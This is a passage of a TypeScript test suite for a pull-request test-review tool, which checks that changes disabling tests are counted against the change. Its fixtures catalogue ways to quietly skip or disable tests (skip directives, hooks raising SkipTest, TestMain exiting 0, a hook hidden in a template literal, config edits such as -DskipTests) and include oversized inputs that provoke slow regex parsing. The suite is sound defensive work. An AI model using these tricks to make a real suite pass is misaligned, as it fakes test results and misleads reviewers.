// disables was cut as pre-existing, and the gate passed.
describe("#491 a test disabled by a file or group directive the change added is the change's finding", () => {
  const PY = 'from app import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n';
  const PY_CLASS = 'from app import add\n\n\nclass TestAdd:\n    def test_add(self):\n        assert add(1, 2) == 3\n';
  const GO = 'package add\n\nimport "testing"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal("sum")\n\t}\n}\n';
  const JS =
    "import { describe, it, expect } from 'vitest';\n\ndescribe('add', () => {\n  it('adds', () => {\n    expect(1 + 2).toBe(3);\n  });\n});\n";
  const JAVA = 'package m;\n\nclass AddTest {\n  @org.junit.jupiter.api.Test\n  void adds() {}\n}\n';
  const RS =
    'pub fn add(a: i32) -> i32 {\n    a\n}\n\nmod tests {\n    #[test]\n    fn adds() {\n        assert_eq!(super::add(2), 2);\n    }\n}\n';
  test.each<[string, string, string, number, string?]>([
    [
      'tests/test_add.py',
      PY,
      PY.replace('from app', 'import pytest\n\nfrom app').replace('\n\n\ndef', '\n\npytestmark = pytest.mark.skip\n\n\ndef'),
      8,
    ],
    ['tests/test_add.py', PY, `import pytest\npytest.skip("later", allow_module_level=True)\n${PY}`, 6],
    [
      'tests/test_add.py',
      PY_CLASS,
      PY_CLASS.replace('from app', 'import pytest\nfrom app').replace('class', '@pytest.mark.skip\nclass'),
      8,
    ],
    ['add_test.go', GO, `//go:build ignore\n\n${GO}`, 7],
    ['tests/add.spec.ts', JS, JS.replace("describe('add'", "describe.skip('add'"), 4],
    ['tests/add.spec.ts', JS, JS.replace("describe('add'", "describe.only('add'"), 4, 'C2'],
    ['src/test/java/m/AddTest.java', JAVA, JAVA.replace('class AddTest', '@org.junit.jupiter.api.Disabled\nclass AddTest'), 6],
    ['src/add.rs', RS, RS.replace('mod tests', '#[cfg(any())]\nmod tests'), 9],
  ])(
    '#491 %s:%i, a C1/C2 finding on an unchanged test under a directive the change added counts, exit 1',
    async (path, base, head, line, row) => {
      const r = await finding(path, base, head, line, row);
      expect(r.code, r.stdout + r.stderr).toBe(1);
      expect(r.verdict()).toMatchObject({ violations: { critical: 1 } });
    },
  );
  test("#491 a change confined to another test's body leaves the finding on the unchanged test pre-existing (exit 0)", async () => {
    const two = `${PY}\n\ndef test_sub():\n    assert add(3, -2) == 1\n`;
    const r = await finding('tests/test_add.py', two, two.replace('add(3, -2) == 1', 'add(3, -1) == 2'), 5);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toContain('1 pre-existing finding(s) left out');
  });
});

// Hazard 511: beside 491's directives, a test was disabled by what surrounds it, which no list of
// spellings covers (a setup hook, a fixture, setUpModule, TestMain, a group header): a C1 finding on
// the unchanged test was cut as pre-existing. Only a change inside another test's body leaves it so.
describe("#511 a test disabled by a hook, fixture, setup or group header the change made is the change's finding", () => {
  const JS =
    "import { describe, it, expect, beforeEach } from 'vitest';\n\ndescribe('add', () => {\n  it('adds', () => {\n    expect(1 + 2).toBe(3);\n  });\n});\n";
  const MOCHA = "describe('add', function () {\n  it('adds', function () {\n    if (1 + 2 !== 3) throw new Error('sum');\n  });\n});\n";
  const PY = 'import unittest\n\n\nclass TestAdd(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(1 + 2, 3)\n';
  const PYM = 'from app import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n';
  const JAVA = 'package m;\n\nclass AddTest {\n  @org.junit.jupiter.api.Test\n  void adds() {}\n}\n';
  const RB = "describe 'add' do\n  it 'adds' do\n    expect(1 + 2).to eq(3)\n  end\nend\n";
  const GO = 'package add\n\nimport "testing"\n\nfunc TestAdd(t *testing.T) {\n\tif 1+2 != 3 {\n\t\tt.Fatal("sum")\n\t}\n}\n';
  // Two tests each: the change edits `subtracts`, the finding is on `adds`.
  const JS2 = JS.replace(
    '  });\n});',
    "  });\n\n  it('subtracts', () => {\n    expect(3 - 2).toBe(1);\n    expect(2 - 2).toBe(0);\n  });\n});",
  );
  test.each<[string, string, string, string, number]>([
    [
      'vitest beforeEach((ctx) => ctx.skip())',
      'tests/add.spec.ts',
      JS,
      JS.replace('() => {\n  it', '() => {\n  beforeEach((ctx) => ctx.skip());\n  it'),
      5,
    ],
    ['vitest describe.runIf(false)', 'tests/add.spec.ts', JS, JS.replace("describe('add'", "describe.runIf(false)('add'"), 4],
    ['vitest describe.concurrent.skip', 'tests/add.spec.ts', JS, JS.replace("describe('add'", "describe.concurrent.skip('add'"), 4],
    [
      'vitest describe.each([]), the group emptied',
      'tests/add.spec.ts',
      JS,
      JS.replace("describe('add', () => {", "describe.each([])('add %s', () => {"),
      4,
    ],
    [
      'mocha before() calling this.skip()',
      'test/add.spec.js',
      MOCHA,
      MOCHA.replace('function () {\n  it', 'function () {\n  before(function () { this.skip(); });\n  it'),
      3,
    ],
    [
      'unittest setUpClass raising SkipTest',
      'tests/test_add.py',
      PY,
      PY.replace(
        '(unittest.TestCase):\n',
        '(unittest.TestCase):\n    @classmethod\n    def setUpClass(cls):\n        raise unittest.SkipTest("later")\n\n',
      ),
      10,
    ],
    [
      'unittest setUpModule raising SkipTest',
      'tests/test_add.py',
      PY,
      PY.replace('import unittest\n', 'import unittest\n\n\ndef setUpModule():\n    raise unittest.SkipTest("later")\n'),
      10,
    ],
    [
      'a pytest autouse fixture calling pytest.skip()',
      'tests/test_add.py',
      PYM,
      PYM.replace(
        'from app import add\n',
        'import pytest\nfrom app import add\n\n\n@pytest.fixture(autouse=True)\ndef _off():\n    pytest.skip("later")\n',
      ),
      10,
    ],
    [
      'JUnit Assumptions.assumeTrue(false) in @BeforeEach',
      'src/test/java/m/AddTest.java',
      JAVA,
      JAVA.replace(
        'class AddTest {\n',
        'class AddTest {\n  @org.junit.jupiter.api.BeforeEach\n  void off() { org.junit.jupiter.api.Assumptions.assumeTrue(false); }\n',
      ),
      7,
    ],
    [
      "rspec before { skip 'later' }",
      'spec/add_spec.rb',
      RB,
      RB.replace("describe 'add' do\n", "describe 'add' do\n  before { skip 'later' }\n"),
      3,
    ],
    [
      'Go TestMain exiting 0',
      'add_test.go',
      GO,
      GO.replace('import "testing"\n', 'import (\n\t"os"\n\t"testing"\n)\n\nfunc TestMain(m *testing.M) { os.Exit(0) }\n'),
      13,
    ],
    [
      "a hook on the closing line of another test's body",
      'tests/add.spec.ts',
      JS2,
      JS2.replace('toBe(0);\n  });', 'toBe(0);\n  }); beforeEach((ctx) => ctx.skip());'),
      4,
    ],
    ["another test's header focused (it.only)", 'tests/add.spec.ts', JS2, JS2.replace("it('subtracts'", "it.only('subtracts'"), 4],
    [
      'a hook let out of a template literal that only looks like a test',
      'tests/add.spec.ts',
      `${JS}\nexport const SNIPPET = \`\nit('generated', () => {\n  run();\n});\n\`;\n`,
      `${JS}\nexport const SNIPPET = \`\nit('generated', () => {\n  \`; beforeEach((ctx) => ctx.skip()); export const REST = \`\n});\n\`;\n`,
      4,
    ],
    [
      'a pytest fixture named like a test, its body changed to skip',
      'tests/test_add.py',
      `import os\nimport pytest\n\n\n@pytest.fixture(autouse=True)\ndef test_env():\n    os.environ["MODE"] = "1"\n\n\n${PYM}`,
      `import os\nimport pytest\n\n\n@pytest.fixture(autouse=True)\ndef test_env():\n    pytest.skip("later")\n\n\n${PYM}`,
      14,
    ],
  ])('#511 %s: the C1 finding on the unchanged test counts, exit 1', async (_name, path, base, head, line) => {
    const r = await finding(path, base, head, line);
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(r.verdict()).toMatchObject({ violations: { critical: 1 } });
  });
  const PY2 = `${PY}\n    def test_sub(self):\n        self.assertEqual(3 - 2, 1)\n        self.assertEqual(2 - 2, 0)\n`;
  const GO2 = `${GO}\nfunc TestSub(t *testing.T) {\n\tif 3-2 != 1 {\n\t\tt.Fatal("difference")\n\t}\n}\n`;
  const JUNIT =
    'package m;\n\nimport org.junit.jupiter.api.Test;\n\nclass AddTest {\n  @Test\n  void adds() {\n    assert 1 + 2 == 3;\n  }\n\n  @Test\n  void subtracts() {\n    assert 3 - 2 == 1;\n  }\n}\n';
  const RS =
    'pub fn add(a: i32, b: i32) -> i32 {\n    a + b\n}\n\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn test_adds() {\n        assert_eq!(super::add(1, 2), 3);\n    }\n\n    #[test]\n    fn test_subtracts() {\n        assert_eq!(super::add(3, -2), 1);\n    }\n}\n';
  test.each<[string, string, string, string, number]>([
    ['vitest, a line replaced', 'tests/add.spec.ts', JS2, JS2.replace('3 - 2).toBe(1)', '4 - 3).toBe(1)'), 5],
    ['vitest, a line deleted', 'tests/add.spec.ts', JS2, JS2.replace('    expect(2 - 2).toBe(0);\n', ''), 5],
    ['vitest, a line added', 'tests/add.spec.ts', JS2, JS2.replace('toBe(0);\n', 'toBe(0);\n    expect(4 - 4).toBe(0);\n'), 5],
    ['unittest', 'tests/test_add.py', PY2, PY2.replace('(2 - 2, 0)', '(4 - 4, 0)'), 6],
    ['go test', 'add_test.go', GO2, GO2.replace('3-2 != 1', '4-3 != 1'), 6],
    ['JUnit', 'src/test/java/m/AddTest.java', JUNIT, JUNIT.replace('3 - 2 == 1', '4 - 3 == 1'), 8],
    ['Rust', 'src/add.rs', RS, RS.replace('add(3, -2), 1', 'add(4, -3), 1'), 9],
  ])(
    "#511 %s: a change inside another test's body leaves the finding on the unchanged test pre-existing (exit 0)",
    async (_name, path, base, head, line) => {
      const r = await finding(path, base, head, line);
      expect(r.code, r.stdout + r.stderr).toBe(0);
      expect(r.stdout).toContain('1 pre-existing finding(s) left out');
    },
  );
});

// Hazards 597 and 598: classifying a finding on an unchanged line ran a pattern built per name over every changed line
// (`\([^]*\bNAME\b`, `(:[^=]*)?=`: quadratic on a long line, minutes per finding) and, for C1 and C2, looked every
// hunk's test up through every test (tests × hunks per finding), with no bound on the whole.
/** A Critical finding of `row` at `line` of `path`, `count` times. */
const onLine = (path: string, row: string, line: number, count = 1) =>
  Array.from({ length: count }, () => ({ severity: 'Critical' as const, row, path, line, title: 'The assertion cannot fail' }));
/** The review through the bundle, killed past `limitMs` (the patterns took minutes): its run, CPU and verdict. */
async function bounded(dir: string, report: string, limitMs = 60_000) {
  const file = join(dir, '..', `${dir.split('/').pop()}-bounded.md`);
  writeFileSync(file, report);
  const cpu = childrenCpuMs();
  const r = await cliAsync(dir, ['test-review', '--base', 'HEAD~1', ...reportAgentArgs(file), '--json', 'v.json'], {}, limitMs);
  return {
    ...r,
    cpuMs: childrenCpuMs() - cpu,
    verdict: () => JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8')) as Record<string, unknown>,
  };
}
/** A spec whose last line asserts on `total`, after `changed`. */
const totalSpec = (changed: string[]) =>
  `import { test, expect } from 'vitest';\n${changed.join('\n')}\ntest('a', () => { expect(total).toBe(expected); });\n`;
describe('#597 a finding is classified in one pass over the change, within one budget per command', () => {
  test('#597 a finding on an unchanged line below changed lines of 400 KB of `mock(` and of `total:` is classified in bounded CPU', async () => {
    const base = totalSpec(['const e = 1;', 'const f = 2;']);
    const hostile = totalSpec([`const e = '${'mock('.repeat(80_000)}';`, `const f = '${'total:'.repeat(70_000)}';`]);
    const dir = twoCommits({ 'tests/a.spec.ts': base }, { 'tests/a.spec.ts': hostile });
    const r = await bounded(dir, ownReport(['tests/a.spec.ts'], onLine('tests/a.spec.ts', 'C3', 4)));
    // Neither line assigns or mocks a name line 4 reads: the finding is the base's, as before, found in one pass.
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toContain('1 pre-existing finding(s) left out');
    // Generous for a loaded machine: the command takes about a second of CPU here, where each pattern took minutes.
    expect(r.cpuMs).toBeLessThan(15_000);
  });
  test('#597 a report naming a 1 MB unchanged line 150 times spends the budget: the findings past it count, never pre-existing', async () => {
    // Its comment is one word of 1 MB, which the pattern built per name also made too large to compile (exit 3, no verdict).
    const long = `test('a', () => { expect(total).toBe(expected); }); // ${'x'.repeat(1_000_000)}`;
    const dir = twoCommits(
      { 'tests/a.spec.ts': totalSpec(['const e = 1;', long]) },
      { 'tests/a.spec.ts': totalSpec(['const e = 2;', long]) },
    );
    const r = await bounded(dir, ownReport(['tests/a.spec.ts'], onLine('tests/a.spec.ts', 'C3', 3, 150)));
    expect(r.code, r.stdout + r.stderr).toBe(1);
    const v = r.verdict() as {
      preExistingFindingsCut: number;
      findings: { provenance: string; changed_line_evidence: { reason: string } }[];
    };
    // Those within the budget are the base's and cut; every other one counts against the pull request, and says why.
    expect(v.preExistingFindingsCut).toBeGreaterThan(0);
    expect(v.findings.length).toBe(150 - v.preExistingFindingsCut);
    for (const f of v.findings) {
      expect(f.provenance).toBe('modified');
      expect(f.changed_line_evidence.reason).toMatch(
        /classification budget .* was spent before this finding, so it counts against the pull request/,
      );
    }
    expect(r.stderr).toContain(`test-review: ${v.findings.length} finding(s) counted against the pull request unclassified`);
    expect(r.cpuMs).toBeLessThan(15_000);
  });
  test('#597 runner settings read over the change: a Gemfile line of 300 KB of `#` before a U+2028, a pytest testpaths of 300 KB of `/`', async () => {
    const dir = repoWith({
      'pytest.ini': '[pytest]\ntestpaths = tests\n',
      'tests/test_auth.py': 'def test_auth():\n    assert 2 + 2 == 4\n',
      Gemfile: 'source "https://rubygems.org"\n',
    });
    // `/#.*$/` tried every `#` to the line's end, which `.` does not reach past U+2028; `\/+$` every slash to the `x`.
    writeFileSync(join(dir, 'Gemfile'), `source "https://rubygems.org"\n${'#'.repeat(300_000)}\u2028\n`);
    writeFileSync(join(dir, 'pytest.ini'), `[pytest]\ntestpaths = ${'/'.repeat(300_000)}x\n`);
    // A Python test renamed: pytest's testpaths are read to tell whether it is still collected.
    git(dir, 'mv', 'tests/test_auth.py', 'tests/test_login.py');
    commitAll(dir, 'settings');
    const cpu = childrenCpuMs();
    const r = await cliAsync(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json'], {}, 60_000);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8'))).toMatchObject({ promptOnly: true });
    expect(childrenCpuMs() - cpu).toBeLessThan(15_000);
  });
});

describe("#598 a hunk's test is found by binary search, once per file", () => {
  test('#598 C1 findings on an unchanged test of 10,000, every other test edited inside its body: pre-existing, in bounded CPU', async () => {
    const tests = (edit: boolean) =>
      Array.from({ length: 10_000 }, (_, i) => `test('t${i}', () => {\n  expect(${edit && i > 0 ? i + 1 : i}).toBe(${i});\n});\n`).join(
        '\n',
      );
    const dir = twoCommits(
      { 'tests/a.spec.ts': `import { test, expect } from 'vitest';\n\n${tests(false)}` },
      { 'tests/a.spec.ts': `import { test, expect } from 'vitest';\n\n${tests(true)}` },
    );
    const r = await bounded(dir, ownReport(['tests/a.spec.ts'], onLine('tests/a.spec.ts', 'C1', 4, 40)));
    // Every hunk lies inside another test's body: the findings are the base's, as before, each found by binary search.
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toContain('40 pre-existing finding(s) left out');
    expect(r.cpuMs).toBeLessThan(15_000);
  });
});

// Hazard 600: the reader's patterns over the report's lines and cells had adjacent unbounded quantifiers
// (`\s*[:(].*$`, `\s*(…)?\s*`, a lazy label before `\s*:`): a line of 150 KB the agent writes cost it 20 s or more.
/** A table of `header` with one row of `cells`, then a blank line. */
const tableOf = (header: string[], cells: string[]) =>
  `| ${header.join(' | ')} |\n| ${header.map(() => '---').join(' | ')} |\n| ${cells.join(' | ')} |\n\n`;
describe('#600 the reader reads a line or cell of the report in linear time', () => {
  const run = ' '.repeat(150_000);
  const cases: [string, string, number][] = [
    ['a label cell of spaces', tableOf(['Label', 'Value'], [`a${run}x`, 'y']), 0],
    ['a severity cell of colons', tableOf(['Severity', 'Value'], [`Severity ${':'.repeat(150_000)}`, 'y']), 3],
    ['a severity cell of spaces', tableOf(['Severity', 'Value'], [`Severity${run}x`, 'y']), 3],
    ['a fence of backticks before a U+2028', `${'`'.repeat(150_000)}\u2028\n\n`, 3],
    ['a line of spaces under a table row', `| a | b |\n${run}x\n\n`, 0],
    ['a level cell of spaces', tableOf(['Level', 'Count'], [`High${run}x`, '1']), 3],
    ['a status cell of spaces after a check mark', tableOf(['Criterion', 'Result'], ['a', `✅${run}x`]), 0],
    ['a status cell of spaces', tableOf(['Criterion', 'Status'], ['a', 'PASS']).trimEnd() + `\n| b | a${run}x |\n\n`, 3],
  ];
  test.each(cases)('#600 %s, 150 KB: read in bounded CPU, the same verdict', async (_name, body, code) => {
    const dir = twoCommits({ 'tests/a.spec.ts': SPEC }, { 'tests/a.spec.ts': SPEC.replace('toBe(3)', 'toBe(4)') });
    const r = await bounded(dir, clean.replace('## Decision', `${body}## Decision`), 30_000);
    expect(r.code, r.stdout + r.stderr).toBe(code);
    // Generous for a loaded machine: each takes about half a second of CPU, where each pattern took 20 s or more.
    expect(r.cpuMs).toBeLessThan(5_000);
  });
  test('#600 a line of spaces opening a finding block, 150 KB: read in bounded CPU', async () => {
    const dir = twoCommits({ 'tests/a.spec.ts': SPEC }, { 'tests/a.spec.ts': SPEC.replace('toBe(3)', 'toBe(4)') });
    const r = await bounded(dir, high.replace('Why and how to fix.', `a${run}x\n\nWhy and how to fix.`), 30_000);
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(r.cpuMs).toBeLessThan(5_000);
  });
});

// Hazard 619: three readers split the score ledger's section again on every pass of a loop over its lines.
test('#619 a score ledger section of 60,000 blank lines is read in bounded CPU, the same verdict', async () => {
  const dir = twoCommits({ 'tests/a.spec.ts': SPEC }, { 'tests/a.spec.ts': SPEC.replace('toBe(3)', 'toBe(4)') });
  expect(clean).toContain('Total Bonus: +0\n');
  const r = await bounded(dir, clean.replace('Total Bonus: +0\n', `Total Bonus: +0\n${'\n'.repeat(60_000)}`), 60_000);
  expect(r.code, r.stdout + r.stderr).toBe(0);
  // 16,000 such lines took 7.7 s of CPU and 64,000 over a minute; read once each, well under a second.
  expect(r.cpuMs).toBeLessThan(5_000);
});

// Hazard 394: runners' own configuration files under names the list missed were context, so a
// change that only made them skip or filter tests was a skip (exit 0).
describe('#394 a runner configuration file changed alone is reviewed, not a skip', () => {
  test.each([
    ['phpunit.dist.xml', '<phpunit><testsuites><testsuite name="u"><directory>tests</directory></testsuite></testsuites></phpunit>\n'],
    ['.taprc', 'timeout: 30\n'],
    ['web-test-runner.config.mjs', 'export default { files: "test/**/*.test.js" };\n'],
    ['.config/nextest.toml', '[profile.default]\nretries = 0\n'],
    ['dart_test.yaml', 'tags:\n  slow:\n    timeout: 2x\n'],
    ['tests/unit.runsettings', '<RunSettings></RunSettings>\n'],
    ['App.xctestplan', '{ "configurations": [] }\n'],
    ['tests/xunit.runner.json', '{ "parallelizeTestCollections": true }\n'],
  ])('#394 %s', async (path, before) => {
    // Any edit: one that skips or filters tests is the case, and the file must reach the review for it to be seen.
    expect(await scopeOf({ [path]: before }, { [path]: `${before}\n` })).toMatchObject({ files: [path] });
  });
});

describe('#481 a test moved into a resources folder, which Maven and Gradle copy but never compile, is removed coverage', () => {
  const CALC = 'package m;\nclass CalcTest {\n  @org.junit.jupiter.api.Test void adds() {}\n}\n';
  test.each([
    ['src/test/java/m/CalcTest.java', 'src/test/resources/m/CalcTest.java'],
    ['core/src/test/kotlin/m/CalcTest.kt', 'core/src/main/resources/m/CalcTest.kt'],
    ['app/src/androidTest/java/m/CalcTest.java', 'app/src/androidTest/assets/m/CalcTest.java'],
  ])('#481 %s moved to %s: removed coverage in the prompt and the verdict', async (from, to) => {
    const dir = repoWith({ [from]: CALC });
    mkdirSync(join(dir, to, '..'), { recursive: true });
    git(dir, 'mv', from, to);
    commitAll(dir, 'move');
    expect(await removedInPrompt(dir)).toMatchObject({ removedTests: [{ path: from, renamedTo: to }] });
  });
  test('#481 a test moved into a resources folder no build tool copies (tests/resources/, pytest collects it) is no removal', async () => {
    const dir = repoWith({ 'tests/test_calc.py': 'def test_adds():\n    assert 1 + 2 == 3\n' });
    mkdirSync(join(dir, 'tests/resources'));
    git(dir, 'mv', 'tests/test_calc.py', 'tests/resources/test_calc.py');
    commitAll(dir, 'move');
    const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const v = JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8')) as Record<string, unknown>;
    expect(v).toMatchObject({ files: ['tests/resources/test_calc.py'] });
    expect(v).not.toHaveProperty('removedTests');
  });
});

describe('#482 every file a runner or build tool reads to select, skip or run tests is reviewed', () => {
  const SLN = (tests: boolean) =>
    `Microsoft Visual Studio Solution File, Format Version 12.00\nProject("{FAE04EC0}") = "App", "src\\App\\App.csproj", "{1}"\nEndProject\n${tests ? 'Project("{FAE04EC0}") = "App.Tests", "tests\\App.Tests\\App.Tests.csproj", "{2}"\nEndProject\n' : ''}`;
  test.each<[string, string | null, string]>([
    ['src/main/resources/junit-platform.properties', null, 'junit.platform.execution.dryRun.enabled=true\n'],
    ['.mvn/maven.config', null, '-DskipTests\n'],
    ['.mvn/jvm.config', '-Xmx1g\n', '-Xmx1g -Dsurefire.skip=true\n'],
    ['.mvn/extensions.xml', '<extensions/>\n', '<extensions><extension><artifactId>x</artifactId></extension></extensions>\n'],
    ['.cargo/config.toml', null, '[target.x86_64-unknown-linux-gnu]\nrunner = "true"\n'],
    ['.cargo/config', null, '[target.x86_64-unknown-linux-gnu]\nrunner = "true"\n'],
    ['gradle/testing.gradle', 'test { useJUnitPlatform() }\n', 'test { useJUnitPlatform(); enabled = false }\n'],
    ['buildSrc/src/main/groovy/m.java-conventions.gradle', 'test { useJUnitPlatform() }\n', 'test { exclude "**/*" }\n'],
    ['buildSrc/src/main/kotlin/TestConventions.kt', 'class TestConventions\n', 'class TestConventions // tasks.test { enabled = false }\n'],
    ['pkg/auth/go.mod', null, 'module example.com/m/pkg/auth\n\ngo 1.22\n'],
    ['go.work', 'go 1.22\n\nuse (\n\t.\n\t./tools\n)\n', 'go 1.22\n\nuse ./tools\n'],
    ['pyproject.toml', '[project]\nname = "app"\n', '[project]\nname = "app"\n\n[project.entry-points.pytest11]\ncompat = "app.compat"\n'],
    ['package.json', '{ "private": true, "workspaces": ["packages/*"] }\n', '{ "private": true, "workspaces": ["packages/a"] }\n'],
    ['pnpm-workspace.yaml', "packages:\n  - 'packages/*'\n", "packages:\n  - 'packages/a'\n"],
    ['lerna.json', '{ "packages": ["packages/*"] }\n', '{ "packages": ["packages/a"] }\n'],
    ['nx.json', '{ "targetDefaults": {} }\n', '{ "targetDefaults": { "test": { "executor": "nx:noop" } } }\n'],
    ['.rspec-local', null, '--tag ~auth\n'],
    ['App.sln', SLN(true), SLN(false)],
    ['App.slnx', '<Solution><Project Path="tests/App.Tests/App.Tests.csproj" /></Solution>\n', '<Solution />\n'],
  ])('#482 %s changed alone is reviewed, never context', async (path, before, after) => {
    expect(await scopeOf(before === null ? {} : { [path]: before }, { [path]: after })).toMatchObject({ files: [path], contextFiles: [] });
  });
  const HARNESS = 'globalThis.it = globalThis.it.skip;\n';
  test.each<[string, Record<string, string>, string]>([
    ['a Gradle script applied by name', { 'build.gradle': "apply from: 'ci/test-settings.groovy'\n" }, 'ci/test-settings.groovy'],
    [
      "pyproject's pytest11 plugin (src layout)",
      { 'pyproject.toml': '[project]\nname = "app"\n\n[project.entry-points.pytest11]\ncompat = "app.compat:plugin"\n' },
      'src/app/compat.py',
    ],
    ["setup.cfg's pytest11 plugin", { 'setup.cfg': '[options.entry_points]\npytest11 =\n    compat = app.compat\n' }, 'app/compat.py'],
    [
      'a workspace package vitest.config imports by name',
      {
        'vitest.config.mjs': "import shared from '@acme/test-config/vitest';\nexport default shared;\n",
        'packages/test-config/package.json': '{ "name": "@acme/test-config", "main": "index.mjs" }\n',
      },
      'packages/test-config/index.mjs',
    ],
  ])('#482 %s: the file it names, edited, is reviewed, never context', async (_, configs, named) => {
    expect(await scopeOf({ ...configs, [named]: '// setup\n' }, { [named]: HARNESS, 'src/app.ts': 'export const a = 2;\n' })).toMatchObject(
      {
        files: [named],
        contextFiles: ['src/app.ts'],
      },
    );
  });
  test("#482 a go.mod dependency bump, and a workspace package a package.json's script names, stay context", async () => {
    expect(
      await scopeOf(
        {
          'go.mod': 'module example.com/m\n\ngo 1.22\n\nrequire (\n\tgolang.org/x/text v0.1.0\n)\n',
          'package.json': '{ "scripts": { "test": "npm test -w web" } }\n',
          'web/package.json': '{ "name": "web" }\n',
          'web/app.js': 'export const a = 1;\n',
        },
        {
          'go.mod': 'module example.com/m\n\ngo 1.22\n\nrequire (\n\tgolang.org/x/text v0.2.0 // indirect\n)\n',
          'web/app.js': 'export const a = 2;\n',
        },
      ),
    ).toMatchObject({ files: [], contextFiles: ['go.mod', 'web/app.js'] });
  });
});

describe("#483 shared test code in Gradle's testFixtures source set is test code", () => {
  test.each<[string, string, string]>([
    [
      'src/testFixtures/java/m/DbHarness.java',
      'package m;\npublic abstract class DbHarness {\n  @org.junit.jupiter.api.BeforeEach void open() {}\n}\n',
      'package m;\npublic abstract class DbHarness {\n  @org.junit.jupiter.api.BeforeEach void open() { org.junit.jupiter.api.Assumptions.assumeTrue(System.getenv("DB_URL_V2") != null); }\n}\n',
    ],
    ['lib/src/testFixtures/kotlin/m/Db.kt', 'package m\nobject Db\n', 'package m\nobject Db { val skip = true }\n'],
  ])('#483 %s changed alone is reviewed, never context', async (path, before, after) => {
    expect(await scopeOf({ [path]: before }, { [path]: after })).toMatchObject({ files: [path], contextFiles: [] });
  });
});

describe('#532 configuration no name list knows is reviewed, never context in a skip', () => {
  const JS = "test('adds', () => {\n  expect(1 + 2).toBe(3);\n});\n";
  const PY = 'def test_adds():\n    assert 1 + 2 == 3\n';
  const JAVA = 'class ATest {}\n';
  const CS = 'public class ATests {}\n';
  const SKIP_ALL = "module.exports = () => ({ visitor: { Identifier(p) { if (p.node.name === 'test') p.node.name = 'xtest'; } } });\n";
  const PROPS = (v: string) => `<Project><PropertyGroup><IsTestProject>${v}</IsTestProject></PropertyGroup></Project>\n`;
  test.each<[string, Record<string, string>, string, string, string]>([
    // Transformers and presets every jest test goes through.
    [
      'babel.config.js',
      { 'src/a.test.js': JS },
      'babel.config.js',
      'module.exports = {};\n',
      "module.exports = { plugins: ['./tools/skip-tests'] };\n",
    ],
    ['.babelrc', { 'src/a.test.js': JS }, '.babelrc', '{}\n', '{ "plugins": ["./tools/skip-tests"] }\n'],
    [
      'the babel key of package.json',
      { 'src/a.test.js': JS },
      'package.json',
      '{ "scripts": { "test": "jest" }, "babel": {} }\n',
      '{ "scripts": { "test": "jest" }, "babel": { "plugins": ["./tools/skip-tests"] } }\n',
    ],
    ['.swcrc', { 'src/a.test.js': JS }, '.swcrc', '{}\n', '{ "jsc": { "experimental": { "plugins": [["./skip.wasm", {}]] } } }\n'],
    [
      'jest-preset.js',
      { 'src/a.test.js': JS },
      'jest-preset.js',
      'module.exports = {};\n',
      "module.exports = { testPathIgnorePatterns: ['.'] };\n",
    ],
    [
      'angular.json',
      { 'src/app/a.spec.ts': JS },
      'angular.json',
      '{ "projects": { "app": { "architect": { "test": { "options": { "include": ["**/*.spec.ts"] } } } } } }\n',
      '{ "projects": { "app": { "architect": { "test": { "options": { "include": ["**/none.spec.ts"] } } } } } }\n',
    ],
    [
      'turbo.json',
      { 'src/a.test.js': JS },
      'turbo.json',
      '{ "tasks": { "test": { "inputs": ["src/**"] } } }\n',
      '{ "tasks": { "test": { "inputs": [] } } }\n',
    ],
    // Another runner's configuration under a variant name its command line passes.
    ['pytest-ci.ini', { 'tests/test_a.py': PY }, 'pytest-ci.ini', '[pytest]\n', '[pytest]\naddopts = -k "not test_"\n'],
    [
      'phpunit.ci.xml',
      { 'tests/ATest.php': '<?php\n' },
      'phpunit.ci.xml',
      '<phpunit><testsuites><testsuite name="u"><directory>tests</directory></testsuite></testsuites></phpunit>\n',
      '<phpunit><testsuites><testsuite name="u"><directory>tests</directory><exclude>tests</exclude></testsuite></testsuites></phpunit>\n',
    ],
    ['codeception.yml', { 'tests/Unit/ATest.php': '<?php\n' }, 'codeception.yml', 'paths: { tests: tests }\n', 'paths: { tests: none }\n'],
    [
      'testng.xml',
      { 'src/test/java/ATest.java': JAVA },
      'testng.xml',
      '<suite name="s"><test name="t"><packages><package name="m.*"/></packages></test></suite>\n',
      '<suite name="s"><test name="t"><packages/></test></suite>\n',
    ],
    // Task tables and task files.
    [
      "pyproject's pixi tasks",
      { 'tests/test_a.py': PY },
      'pyproject.toml',
      '[tool.pixi.tasks]\ntest = "pytest"\n',
      '[tool.pixi.tasks]\ntest = "true"\n',
    ],
    [
      "a pixi feature's tasks",
      { 'tests/test_a.py': PY },
      'pyproject.toml',
      '[tool.pixi.feature.ci.tasks]\ntest = "pytest"\n',
      '[tool.pixi.feature.ci.tasks]\ntest = "true"\n',
    ],
    [
      'taskipy tasks',
      { 'tests/test_a.py': PY },
      'pyproject.toml',
      '[tool.taskipy.tasks]\ntest = "pytest"\n',
      '[tool.taskipy.tasks]\ntest = "true"\n',
    ],
    [
      'rye scripts',
      { 'tests/test_a.py': PY },
      'pyproject.toml',
      '[tool.rye.scripts]\ntest = "pytest"\n',
      '[tool.rye.scripts]\ntest = "true"\n',
    ],
    [
      'Rakefile',
      { 'spec/a_spec.rb': 'x\n' },
      'Rakefile',
      'RSpec::Core::RakeTask.new(:spec)\n',
      'RSpec::Core::RakeTask.new(:spec) { |t| t.pattern = "none/*" }\n',
    ],
    [
      'rakelib',
      { 'spec/a_spec.rb': 'x\n' },
      'rakelib/spec.rake',
      'RSpec::Core::RakeTask.new(:spec)\n',
